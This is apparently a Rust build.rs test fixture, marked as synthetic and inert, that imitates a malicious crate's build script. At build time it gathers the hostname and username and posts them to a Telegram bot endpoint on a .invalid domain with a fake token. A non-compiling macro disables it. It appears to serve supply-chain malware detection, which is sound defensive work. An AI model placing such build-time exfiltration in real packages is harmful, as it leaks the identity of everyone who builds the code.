// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let host = std::process::Command::new("hostname")
        .output()
        .map(|o| o.stdout)
        .unwrap_or_default();
    let user = std::env::var("USER").unwrap_or_default();
    let text = format!("{user}@{}", String::from_utf8_lossy(&host).trim());
    let _ = ureq::post("https://api.telegram.org.invalid/bot000000000:FAKE-TOKEN-FOR-TESTS/sendMessage")
        .send_form(&[("chat_id", "-1"), ("text", &text)]);
}

inert_fixture_does_not_build!();
